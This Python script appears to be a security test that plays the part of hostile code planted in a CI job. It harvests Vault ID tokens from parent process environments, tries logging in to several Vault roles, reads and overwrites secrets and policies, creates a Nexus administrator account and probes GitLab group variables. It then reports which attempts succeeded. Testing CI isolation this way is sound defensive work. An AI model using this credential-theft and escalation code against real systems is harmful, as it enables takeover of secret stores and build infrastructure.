"""What hostile code in a job tries with all that it finds: it prints what it gets as JSON, and runs without this project's code.

A merge request may put it anywhere in the checkout. Of the processes above it, it reads the environment too, where the id_token is.
"""

from __future__ import annotations

import json
import os
import sys
import urllib.error
import urllib.request
from base64 import b64encode
from pathlib import Path

_ROLES = ("ciaccess-preview", "ciaccess-apply", "ciaccess-drift", "nexus-ci")
_SECRETS = (
    *(f"nexus/svc-{name}" for name in ("bench", "promoter", "deployer", "admin")),
    *(f"ciaccess/{name}" for name in ("svc-ciaccess-writer", "gitlab-reader", "gitlab-writer")),
)


def found() -> dict[str, str]:
    """Return the environment, and what only the processes above have, up to the job's."""
    variables = dict(os.environ)
    process = os.getppid()
    while process > 1 and "VAULT_ID_TOKEN" not in variables:
        for entry in Path(f"/proc/{process}/environ").read_text("utf-8").split("\0"):
            name, _, value = entry.partition("=")
            variables.setdefault(name, value)
        process = int(Path(f"/proc/{process}/stat").read_text("ascii").rpartition(")")[2].split()[1])
    return variables


def ask(method: str, url: str, headers: dict[str, str], body: object = None) -> tuple[int, bytes]:
    """Return the status and the body of an answer."""
    data = None if body is None else json.dumps(body).encode()
    sent = {"Content-Type": "application/json", **headers}
    request = urllib.request.Request(url, data, sent, method=method)  # noqa: S310 addresses of the local stack
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:  # noqa: S310 as above
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def _credentials(vault: str, token: str) -> dict[str, str]:
    """Return what the preview's identity reads of its own, where no run-as has put it into the environment."""
    held = {
        name: json.loads(ask("GET", f"{vault}/v1/secret/data/ciaccess/{name}", {"X-Vault-Token": token})[1])[
            "data"
        ]["data"]
        for name in ("svc-ciaccess-reader", "gitlab-notes")
    }
    reader = held["svc-ciaccess-reader"]
    return {
        "NEXUS_USERNAME": reader["username"],
        "NEXUS_PASSWORD": reader["password"],
        "GITLAB_NOTES_TOKEN": held["gitlab-notes"]["value"],
    }


def attack(variables: dict[str, str], nexus: str, gitlab: str) -> dict[str, list[str]]:
    """Return what worked, by system."""
    vault = variables["VAULT_ADDR"]
    tokens = {"job": variables.get("VAULT_TOKEN", "")}
    for role in _ROLES:
        asked = {"role": role, "jwt": variables["VAULT_ID_TOKEN"]}
        status, body = ask("POST", f"{vault}/v1/auth/jwt/login", {}, asked)
        if status == 200:
            tokens[role] = json.loads(body)["auth"]["client_token"]
    if "ciaccess-preview" in tokens:
        variables = _credentials(vault, tokens["ciaccess-preview"]) | variables
    secrets = [
        f"{name} {path}"
        for name, token in tokens.items()
        for path in _SECRETS
        if ask("GET", f"{vault}/v1/secret/data/{path}", {"X-Vault-Token": token})[0] == 200
    ]
    written = [
        f"{name} {path}"
        for name, token in tokens.items()
        for path in (
            "secret/data/nexus/svc-bench",
            "sys/policies/acl/x",
            "auth/jwt/role/x",
            "secret/data/ciaccess/trust-anchors",
        )
        if ask("POST", f"{vault}/v1/{path}", {"X-Vault-Token": token}, {"policy": "", "data": {}})[0] < 300
    ]
    login = b64encode(f"{variables['NEXUS_USERNAME']}:{variables['NEXUS_PASSWORD']}".encode()).decode()
    user = {"userId": "x", "firstName": "x", "lastName": "x", "emailAddress": "x@x.test", "status": "active",
            "password": "x", "roles": ["nx-admin"]}  # fmt: skip
    made = ask("POST", f"{nexus}/service/rest/v1/security/users", {"Authorization": f"Basic {login}"}, user)
    shown: list[str] = [
        name
        for name in ("GITLAB_TOKEN", "GITLAB_NOTES_TOKEN")
        if name in variables
        and ask("GET", f"{gitlab}/api/v4/groups/9/variables", {"PRIVATE-TOKEN": variables[name]})[0] == 200
    ]
    return {
        "roles": sorted(set(tokens) - {"job"}),
        "secrets": secrets,
        "written": written,
        "nexus": ["administrator"] if made[0] < 300 else [],
        "variables": shown,
    }


if __name__ == "__main__":
    report, nexus_url, gitlab_url = sys.argv[1:]
    Path(report).write_text(json.dumps(attack(found(), nexus_url, gitlab_url)), encoding="utf-8")
